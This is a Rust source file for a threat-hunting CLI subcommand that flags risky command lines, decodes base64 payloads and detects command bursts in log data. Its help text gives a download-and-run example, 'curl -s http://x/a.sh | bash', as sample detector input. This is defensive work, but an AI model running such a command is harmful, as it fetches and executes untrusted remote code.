//! `huntbook cmdline`: risky command lines (rule files, decoded base64
//! payloads) and command bursts in a frame column or in text arguments.

use super::output::{self, OutputOptions};
use crate::error::{Error, Result};
use crate::transform::cmdline::{CmdRules, RiskyCommands, command_bursts};
use polars::prelude::*;
use std::path::PathBuf;

/// Arguments of `huntbook cmdline`.
#[derive(Debug, Clone, clap::Args)]
pub struct CmdlineArgs {
    /// What to do.
    #[command(subcommand)]
    pub action: CmdlineAction,
}

/// `huntbook cmdline` subcommands.
#[derive(Debug, Clone, clap::Subcommand)]
pub enum CmdlineAction {
    /// Command lines matching risky-command rules (one row per match).
    #[command(after_help = "Examples:\n  \
        huntbook cmdline risky --text 'curl -s http://x/a.sh | bash'\n  \
        huntbook cmdline risky sudo.csv --column Command --format csv\n  \
        huntbook cmdline risky syslog.csv --column SyslogMessage --rules cmd_line_rules.json --log-type Syslog\n\n\
        Rules: huntbook's bundled set by default; --rules FILE in huntbook's format\n  \
        ({\"rules\": [{name, pattern, ...}]}), or MSTICPy's ({\"Syslog\": [regex, ...]})\n  \
        with --log-type.")]
    Risky(RiskyArgs),
    /// Bursts of N commands within T seconds.
    Bursts(BurstArgs),
}

/// Arguments of `huntbook cmdline risky`.
#[derive(Debug, Clone, clap::Args)]
pub struct RiskyArgs {
    /// Events (CSV, JSON, NDJSON or Parquet).
    pub input: Option<PathBuf>,
    /// Command lines given directly (repeatable) instead of a file.
    #[arg(long)]
    pub text: Vec<String>,
    /// Column of command lines.
    #[arg(long, short = 'c', default_value = "Command")]
    pub column: String,
    /// A rule file (default: the bundled rules).
    #[arg(long, value_name = "FILE")]
    pub rules: Option<PathBuf>,
    /// Read --rules as MSTICPy's format, using this log type's list.
    #[arg(long)]
    pub log_type: Option<String>,
    /// Do not decode base64 payloads.
    #[arg(long)]
    pub no_decode: bool,
}

/// Arguments of `huntbook cmdline bursts`.
#[derive(Debug, Clone, clap::Args)]
pub struct BurstArgs {
    /// Events (CSV, JSON, NDJSON or Parquet).
    pub input: PathBuf,
    /// Column of command lines.
    #[arg(long, short = 'c', default_value = "Command")]
    pub column: String,
    /// Time column.
    #[arg(long, default_value = "TimeGenerated")]
    pub time_column: String,
    /// Window in seconds.
    #[arg(long, default_value_t = 5.0)]
    pub seconds: f64,
    /// Commands in a window.
    #[arg(long, default_value_t = 10)]
    pub count: usize,
}

/// Runs `huntbook cmdline`.
pub fn run(args: CmdlineArgs, out: &OutputOptions) -> Result<()> {
    match args.action {
        CmdlineAction::Risky(a) => {
            let mut det = RiskyCommands::new().decode_base64(!a.no_decode);
            if let Some(path) = &a.rules {
                det = det.rules(CmdRules::from_file(path, a.log_type.as_deref())?);
            }
            let (df, column) = match (&a.input, a.text.is_empty()) {
                (Some(path), true) => (crate::data::read_file(path)?, a.column.clone()),
                (None, false) => (
                    DataFrame::new(
                        a.text.len(),
                        vec![Column::new("Command".into(), a.text.clone())],
                    )
                    .map_err(|e| Error::polars("building the command frame", e))?,
                    "Command".to_string(),
                ),
                _ => {
                    return Err(Error::invalid(
                        "huntbook cmdline risky",
                        "give an input file or --text, not both",
                    ));
                }
            };
            output::write(det.detect(&df, &column)?.into_df(), out)
        }
        CmdlineAction::Bursts(a) => {
            let df = crate::data::read_file(&a.input)?;
            let b = command_bursts(&df, &a.column, &a.time_column, a.seconds, a.count)?;
            output::write(b, out)
        }
    }
}
